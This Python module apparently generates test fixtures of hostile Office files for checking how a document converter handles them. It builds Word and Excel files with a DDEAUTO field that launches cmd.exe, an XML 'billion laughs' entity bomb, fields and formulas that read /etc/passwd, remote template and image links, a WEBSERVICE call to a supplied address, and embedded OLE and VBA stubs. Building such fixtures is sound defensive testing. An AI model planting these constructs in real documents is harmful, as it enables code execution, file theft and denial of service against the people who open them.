"""Word, Excel and PowerPoint files as Office writes them, and what one may be made to do."""

import io
import zipfile

import openpyxl

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
LINKED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKED = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
TOLD = "Invented minutes of nobody"


def package(**parts):
    """Parts by their path, as one file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, told in parts.items():
            made.writestr(name, told)
    return file.getvalue()


def word(body="", *, links="", head=HEAD, **parts):
    """A document of a paragraph, with whatever stands before it and is linked to it."""
    types = (
        f'{HEAD}<Types xmlns="{TYPES}"><Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    root = (
        f'{HEAD}<Relationships xmlns="{PACKED}"><Relationship Id="r1" Target="word/document.xml"'
        f' Type="{LINKED}/officeDocument"/></Relationships>'
    )
    document = (
        f'{head}<w:document xmlns:w="{WORD}" xmlns:r="{LINKED}" '
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f"<w:body>{body}<w:p><w:r><w:t>{TOLD}</w:t></w:r></w:p></w:body></w:document>"
    )
    return package(
        **{
            "[Content_Types].xml": types,
            "_rels/.rels": root,
            "word/document.xml": document,
            "word/_rels/document.xml.rels": (
                f'{HEAD}<Relationships xmlns="{PACKED}">{links}</Relationships>'
            ),
            **parts,
        }
    )


def link(key, kind, target):
    """A part or a place elsewhere that the document refers to."""
    outside = ' TargetMode="External"' if ":" in target else ""
    return f'<Relationship Id="{key}" Type="{LINKED}/{kind}" Target="{target}"{outside}/>'


def field(code, shown="shown before"):
    """A field that asks to be worked out anew."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def picture(key):
    return (
        '<w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt">'
        f'<v:imagedata r:id="{key}"/></v:shape></w:pict></w:r></w:p>'
    )


def embedded():
    """An object of another program, and the picture of it that was never made."""
    body = (
        '<w:p><w:r><w:object><v:shape id="s" style="width:99pt;height:99pt"/>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s" DrawAspect="Icon" r:id="r9"/>'
        "</w:object></w:r></w:p>"
    )
    old = bytes.fromhex("d0cf11e0a1b11ae1") + b"calc.exe" * 500
    return word(
        body,
        links=link("r9", "oleObject", "embeddings/oleObject1.bin"),
        **{"word/embeddings/oleObject1.bin": old},
    )


def entities(told, used):
    """A document that declares entities and uses one."""
    head = f'<?xml version="1.0"?><!DOCTYPE d [{told}]>'
    return word(f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p>", head=head)


def laughs():
    """Ten to the ninth of one letter."""
    letters = "abcdefghij"
    told = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {one} "{f"&{before};" * 10}">'
        for before, one in zip(letters, letters[1:], strict=False)
    )
    return entities(told, "&j;")


def sheets(**cells):
    """A workbook of one sheet with these cells."""
    book = openpyxl.Workbook()
    for name, told in cells.items():
        book.active[name] = told
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def reaching(address):
    """By name, files that ask for something at an address, or for a file of the machine."""
    passwords = "file:///etc/passwd"
    return {
        "a picture elsewhere": word(
            picture("r8") + picture("r9"),
            links=link("r8", "image", f"{address}/a.png") + link("r9", "image", passwords),
        ),
        "a template elsewhere": word(links=link("r9", "attachedTemplate", f"{address}/t.dotm")),
        "fields that include": word(
            field('INCLUDETEXT "/etc/passwd"')
            + field(f'INCLUDETEXT "{passwords}"')
            + field(f'INCLUDEPICTURE "{address}/b.png" \\d')
        ),
        "fields of DDE": word(
            field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
            + field('DDE soffice /etc/passwd "all"')
        ),
        "a link": word(field(f'HYPERLINK "{address}/c"')),
        "a program": word(
            links=link("r9", "vbaProject", "vbaProject.bin"),
            **{"word/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000)},
        ),
        "an object": embedded(),
        "formulas": sheets(
            A1=f'=WEBSERVICE("{address}/d")',
            A2='=DDE("soffice","/etc/passwd","A1")',
            A3=f"='{passwords}'#$Sheet1.A1",
            A4=f'=HYPERLINK("{address}/e","shown before")',
            A5=TOLD,
        ),
    }


NAMES = tuple(reaching("http://127.0.0.1"))
